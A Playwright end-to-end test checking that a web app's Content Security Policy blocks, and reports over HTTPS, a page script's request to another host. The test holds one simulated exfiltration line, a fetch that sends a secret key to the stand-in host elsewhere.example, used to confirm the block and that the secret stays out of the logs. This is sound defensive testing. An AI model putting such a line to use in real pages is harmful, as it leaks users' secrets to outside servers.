import process from 'node:process'

import { expect, test } from '#e2e/support/fixtures.ts'
import { makeTestCertificate } from '#host/tls/certificate.fixture.ts'

/**
 * Chromium's headless shell reports over plain HTTP only, which canary.spec.ts looks at; this one has
 * windows, and reports over both.
 */
const windowed = process.env['MARQUEE_WINDOWED_BROWSER']

test('over https, too, the host gets reports about blocked requests and their targets', async ({
  playwright,
  launchOptions,
  guard,
  startOwnHost,
  expectConsole,
}) => {
  test.skip(
    windowed === undefined,
    'Only a Chromium with windows sends reports over HTTPS, and none is installed.',
  )
  const host = await startOwnHost({ tls: makeTestCertificate() })
  const browser = await playwright.chromium.launch({
    ...launchOptions,
    ...(windowed !== undefined && { executablePath: windowed }),
  })
  // Nobody has signed the certificate that the test makes.
  const context = await browser.newContext({ ignoreHTTPSErrors: true, serviceWorkers: 'block' })
  await guard.watch(context)
  expectConsole(/securitypolicyviolation connect-src https:\/\/elsewhere\.example/)
  expectConsole(/console error: .*elsewhere\.example.*Content Security Policy/)
  const page = await context.newPage()
  await page.goto(`${host.origin}/tasks`)
  await expect(page.getByRole('button', { name: 'Connect', exact: true })).toBeVisible()
  await page.evaluate(() => {
    void fetch('https://elsewhere.example/a?key=S3CRET').catch(() => undefined)
  })
  await expect.poll(() => host.log()).toContain('"directive":"connect-src"')
  expect(host.log()).toContain('"blocked":"https://elsewhere.example"')
  expect(host.log()).not.toContain('S3CRET')
  await browser.close()
})
